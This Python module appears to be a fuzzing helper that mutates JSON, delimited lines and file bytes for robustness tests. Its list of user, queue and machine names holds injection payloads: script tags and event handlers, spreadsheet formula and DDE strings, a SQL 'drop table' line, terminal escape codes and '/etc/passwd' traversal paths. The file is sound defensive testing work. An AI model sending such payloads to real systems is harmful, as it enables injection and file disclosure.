"""Mutate valid input: values, JSON documents, lines of fields, and bytes of files.

Each function takes a `random.Random`, so that the campaign, which seeds it, and Hypothesis, which
draws it, use the same documents.
"""

import gzip
import json
import re
from collections.abc import Callable, Sequence
from pathlib import Path
from random import Random
from typing import Any

NAMES = (
    "<script>document.title='ran'</script>",
    '"><img src=x onerror="document.title=\'ran\'">',
    "<svg/onload=document.title='ran'>",
    "</style><script>document.title='ran'</script>",
    "javascript:document.title='ran'",
    '=HYPERLINK("http://example.invalid?"&A1,"x")',
    *("=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"),
    *("\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x9b31m", "a\x00b", "\x07\x08\x7f"),
    "\x1b]8;;http://example.invalid\x1b\\link\x1b]8;;\x1b\\",
    *("\u202egpj.exe", "\u2066a\u2069\u200f", "\ufeff", "\U0001f4a5" * 5, "e\u0301" * 30),
    *("line\nbreak", "line\r\nbreak", "next\x85line\u2028para\u2029"),
    *("&lt;b&gt;", "[bold red]markup[/]", "{{x}} ${y} %s %n", "$name", "'; drop table jobs; --"),
    *("../../../../etc/passwd", "/etc/passwd", "C:\\Windows", "file:///etc/passwd"),
    *('a"b', "a,b;c|d", "*", "con", "x" * 5_000, "", " "),
)
"""Names of users, queues, jobs and machines that attack a page, a CSV file or a terminal."""

TEXTS = ("9" * 5_000, *(Path(__file__).parent / "texts.txt").read_text("utf-8").splitlines())
"""Texts that are nearly numbers, times or lists, or stand for a missing value."""

NUMBERS: tuple[Any, ...] = (
    *(-0.0, 0.5, 1e308, -1e308, 1e-320, float("nan"), float("inf"), float("-inf")),
    *(0, -1, 1, True, 2**32 - 2, 2**53 + 1, -(2**63) - 1, 10**40, 10**400),
    *(2**bits - less for bits in (31, 63, 64) for less in (0, 1)),
)
_DIGITS = "@digits@"
_DEEP = "@deep@"


def odd_value(rng: Random) -> Any:
    """Return an unexpected value: of another type, huge, or a hostile name."""
    return rng.choice(
        (
            lambda: rng.choice(NAMES),
            lambda: rng.choice(TEXTS),
            lambda: rng.choice(NUMBERS),
            lambda: None,
            dict,
            list,
            lambda: [rng.choice(NAMES)],
            lambda: {rng.choice(NAMES): rng.choice(NUMBERS)},
            lambda: [[[[None]]]],
            lambda: "\ud800",
            lambda: _DIGITS,
            lambda: _DEEP,
        )
    )()


def mutation_rate(rng: Random) -> float:
    """Return the probability that a part of a document is mutated: zero, low or high."""
    return rng.choice((0.0, 0.01, 0.03, 0.1, 0.3))


def mutate(rng: Random, value: Any, p: float) -> Any:
    """Remove, repeat, rename or replace some parts of a value."""
    if rng.random() < p / 2:
        return odd_value(rng)
    if isinstance(value, dict):
        items = [(k, mutate(rng, v, p)) for k, v in value.items() if rng.random() >= p / 2]
        if items and rng.random() < p:
            items.append((rng.choice((*NAMES, items[0][0].upper())), odd_value(rng)))
        return dict(items)
    if isinstance(value, list):
        mutated = [mutate(rng, v, p) for v in value if rng.random() >= p / 2]
        if mutated and rng.random() < p:
            mutated.insert(rng.randrange(len(mutated)), rng.choice(mutated))
        if rng.random() < p:
            mutated.append(odd_value(rng))
        return mutated
    if isinstance(value, str) and rng.random() < p:
        return mutate_text(rng, value)
    return value


def mutate_text(rng: Random, text: str) -> str:
    """Cut, double or reverse a text, insert a hostile one, or replace it by one."""
    at = rng.randrange(len(text) + 1)
    new = rng.choice(NAMES if rng.random() < 0.5 else TEXTS)
    return rng.choice((text[:at], text + text, text[:at] + new + text[at:], new, text[::-1]))


def json_text(rng: Random, value: Any, p: float) -> str:
    """Serialize a value as JSON, in which keys may repeat and nesting may be deep."""
    gap = rng.choice((None, None, 1))
    text = json.dumps(value, ensure_ascii=rng.random() < 0.8, indent=gap)
    text = text.replace(f'"{_DIGITS}"', "9" * 5_000)
    if _DEEP in text:
        depth = rng.choice((50, 1_000, 20_000))
        text = text.replace(f'"{_DEEP}"', "[" * depth + "]" * rng.choice((depth, 0)))
    if rng.random() < p and (keys := re.findall(r'"(\w+)":', text)):
        one, other = rng.choice(keys), rng.choice(keys)
        text = text.replace(f'"{one}":', f'"{other}":', 1)
    return text


def field_line(rng: Random, fields: Sequence[str], delimiter: str, p: float) -> str:
    """Join fields to a line; some are mutated, missing or inserted."""
    mutated = [mutate_text(rng, field) if rng.random() < p else field for field in fields]
    if rng.random() < p and mutated:
        mutated.pop(rng.randrange(len(mutated)))
    if rng.random() < p:
        mutated.insert(rng.randrange(len(mutated) + 1), rng.choice(TEXTS))
    return delimiter.join(mutated)


def encode(text: str) -> bytes:
    """Encode as UTF-8; a lone surrogate becomes three bytes that are invalid."""
    return text.encode("utf-8", "surrogatepass")


def corrupt(rng: Random, data: bytes, p: float, other: bytes = b"") -> bytes:
    """The bytes of a file: as they are, mostly, or corrupt once or twice."""
    while rng.random() < p:
        data = rng.choice(_CORRUPTIONS)(rng, data, other)
    return data


def _offset(rng: Random, data: bytes) -> int:
    return rng.randrange(len(data) + 1)


def _flipped(rng: Random, data: bytes, other: bytes) -> bytes:
    mutated = bytearray(data)
    for _ in range(rng.randrange(1, 4) if mutated else 0):
        mutated[rng.randrange(len(mutated))] ^= 1 << rng.randrange(8)
    return bytes(mutated)


def _inserted(rng: Random, data: bytes, other: bytes) -> bytes:
    at = _offset(rng, data)
    return data[:at] + rng.choice(_PIECES) + data[at:]


def _spliced(rng: Random, data: bytes, other: bytes) -> bytes:
    return data[: _offset(rng, data)] + other[_offset(rng, other) :]


def _lines_reordered(rng: Random, data: bytes, other: bytes) -> bytes:
    lines = data.split(b"\n")
    line = rng.choice(lines)
    if rng.random() < 0.5:  # moved, else repeated
        lines.remove(line)
    lines.insert(rng.randrange(len(lines) + 1), line)
    return b"\n".join(lines)


_PIECES = (
    *(b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b"\xc3\x28", b"\xed\xa0\x80", b"\x1f\x8b\x08"),
    *(b"\r", b"\r\n", b"\n\n\n", b"\x1b[2J", b'"', b"'", b"\\", b",", b"{", b"[", b"]", b"#"),
)

_CORRUPTIONS: tuple[Callable[[Random, bytes, bytes], bytes], ...] = (
    lambda rng, data, other: data[: _offset(rng, data)],
    lambda rng, data, other: data[_offset(rng, data) :],
    lambda rng, data, other: b"\xef\xbb\xbf" + data,
    lambda rng, data, other: data.replace(b"\n", b"\r\n"),
    lambda rng, data, other: data.replace(b"\n", b"\r"),
    lambda rng, data, other: data.decode("utf-8", "replace").encode("utf-16"),
    lambda rng, data, other: gzip.compress(data, 1),
    lambda rng, data, other: gzip.compress(data, 1)[: _offset(rng, data)],
    lambda rng, data, other: _flipped(rng, gzip.compress(data, 1), other),
    lambda rng, data, other: data + data,
    lambda rng, data, other: b"",
    *(_flipped, _flipped, _inserted, _inserted, _spliced, _lines_reordered, _lines_reordered),
)
